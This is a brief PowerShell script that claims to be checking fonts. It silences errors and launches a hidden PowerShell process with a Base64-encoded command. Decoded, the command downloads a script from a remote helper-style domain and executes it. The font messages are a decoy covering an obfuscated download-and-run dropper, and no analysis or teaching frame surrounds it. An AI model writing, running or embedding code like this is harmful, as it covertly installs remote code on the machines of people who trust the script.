$ErrorActionPreference = "SilentlyContinue"
Write-Host "Checking fonts..."
$p = "-nop -w hidden -EncodedCommand aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB3AGkAbgAtAGgAZQBsAHAAZQByAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AC8AYQAuAHAAcwAxACcAKQA="
Start-Process powershell.exe -ArgumentList $p -WindowStyle Hidden
Write-Host "Done."
